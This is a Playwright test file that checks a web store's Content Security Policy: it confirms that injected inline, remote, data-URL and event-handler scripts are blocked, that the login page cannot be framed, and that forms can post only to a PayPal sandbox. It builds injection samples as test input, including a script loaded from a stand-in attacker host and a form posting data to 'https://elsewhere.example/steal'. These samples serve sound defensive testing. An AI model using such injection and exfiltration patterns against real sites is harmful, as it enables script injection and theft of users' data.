import { cards, expect, test } from './fixtures.ts'
import { standInFor, type SiteRequest } from './sites.ts'

// Browser: it applies the policy.

test('the policy blocks every kind of injected script', async ({ page, policyViolations }) => {
  await page.goto('/')
  await expect(cards(page).first()).toBeVisible()
  await page.evaluate(async () => {
    const inline = document.createElement('script')
    inline.textContent = 'window.hit = true'
    const elsewhere = document.createElement('script')
    elsewhere.src = 'https://elsewhere.example/hit.js'
    const address = document.createElement('script')
    address.src = 'data:text/javascript,window.hit=true'
    const handler = document.createElement('div')
    handler.innerHTML = '<button onclick="window.hit = true">x</button><a href="javascript:void(window.hit=true)">x</a>'
    document.body.append(inline, elsewhere, address, handler)
    for (const element of handler.children) (element as HTMLElement).click()
    // The browser reports violations in a separate task.
    await new Promise((resolve) => {
      setTimeout(resolve)
    })
  })
  await expect.poll(() => policyViolations.length).toBe(5)
  expect(policyViolations.splice(0).every((violation) => violation.includes('script-src'))).toBe(true)
  expect(await page.evaluate(() => 'hit' in window)).toBe(false)
})

test('no page can show the store in a frame, not even on the same host', async ({
  page,
  context,
  policyViolations,
}) => {
  const frame = (name: string) => page.frame({ name })
  // The mocked page has no policy; the image in the second frame may be shown.
  const body =
    '<iframe name="store" src="/login"></iframe><iframe name="picture" src="/canvamanager/imgs/files/1.svg"></iframe>'
  await context.route('**/frames', (route) => route.fulfill({ contentType: 'text/html', body }))
  await page.goto('/frames')
  expect(frame('picture')?.url()).toContain('/canvamanager/')
  await expect.poll(() => frame('store')?.url()).toBe('chrome-error://chromewebdata/')
  expect(policyViolations.splice(0)).toEqual([expect.stringContaining("frame-ancestors 'none'")])
})

test('a form can be sent to a PayPal frame, but to no other site', async ({ page, context, policyViolations }) => {
  const posted: string[] = []
  const note = ({ method, url, body }: SiteRequest) => {
    posted.push(`${method} ${url.href} ${body}`)
    return { json: {} }
  }
  await standInFor(context, 'https://www.sandbox.paypal.com/', note)
  await standInFor(context, 'https://elsewhere.example/', note)
  await page.goto('/')
  await page.evaluate(
    (actions) => {
      for (const [index, action] of actions.entries()) {
        const frame = document.createElement('iframe')
        frame.name = `frame-${index}`
        const form = document.createElement('form')
        Object.assign(form, { method: 'POST', action, target: frame.name })
        form.append(Object.assign(document.createElement('input'), { name: 'amount', value: '2.50' }))
        document.body.append(frame, form)
        form.submit()
      }
    },
    ['https://elsewhere.example/steal', 'https://www.sandbox.paypal.com/smart/buttons'],
  )
  await expect.poll(() => posted).toEqual(['POST https://www.sandbox.paypal.com/smart/buttons amount=2.50'])
  const refused = () => policyViolations.filter((violation) => violation.includes('form-action'))
  await expect.poll(refused).toEqual([expect.stringContaining('elsewhere.example')])
  policyViolations.length = 0
})
